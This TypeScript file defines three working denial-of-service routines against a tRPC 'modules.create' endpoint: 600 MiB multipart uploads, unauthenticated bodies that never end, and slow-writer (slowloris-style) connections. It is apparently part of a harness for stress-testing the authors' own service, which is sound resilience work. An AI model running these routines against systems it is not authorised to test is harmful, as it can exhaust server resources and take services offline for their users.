import { headersOf } from '../call.ts';
import type { Attack } from './attack.ts';
import { repeat } from './attack.ts';
import { sendRaw } from './socket.ts';

const MEBIBYTE = Buffer.alloc(1024 * 1024, 'x');
const GIANT = 600;

/** A form of 600 MiB to a mutation. */
export const giantForms: Attack = {
  name: 'multipart bodies of 600 MiB',
  run: ({ target: { bases, tenant } }, signal) =>
    repeat(4, signal, (n) => {
      const base = bases[n % bases.length] ?? '';
      let sent = 0;
      const headers = {
        ...headersOf(tenant, 'trainer', base),
        'content-type': 'multipart/form-data; boundary=b',
        'content-length': String(GIANT * MEBIBYTE.length),
      };
      return sendRaw(
        { base, path: '/api/trpc/modules.create', headers },
        () => (sent++ < GIANT ? MEBIBYTE : undefined),
        { signal },
      );
    }),
};

/** Connections without an account, each with a body that never ends. */
export const endlessBodies: Attack = {
  name: 'endless bodies without an account',
  run: ({ target: { bases }, connections }, signal) =>
    repeat(Math.ceil(connections / 5), signal, (n) => {
      const base = bases[n % bases.length] ?? '';
      const headers = { 'content-type': 'application/json', 'content-length': '5000000' };
      return sendRaw({ base, path: '/api/trpc/modules.create', headers }, () => Buffer.from(' '.repeat(16_384)), {
        signal,
        pause: 200,
      });
    }),
};

/** Somebody with an account who sends a byte a second. */
export const slowWriters: Attack = {
  name: 'slow writers',
  run: ({ target: { bases, tenant }, connections }, signal) =>
    repeat(Math.ceil(connections / 5), signal, (n) => {
      const base = bases[n % bases.length] ?? '';
      const headers = {
        ...headersOf(tenant, 'trainer', base),
        'content-type': 'application/json',
        'content-length': '1000000',
      };
      return sendRaw({ base, path: '/api/trpc/modules.create', headers }, () => Buffer.from(' '), {
        signal,
        pause: 1000,
      });
    }),
};
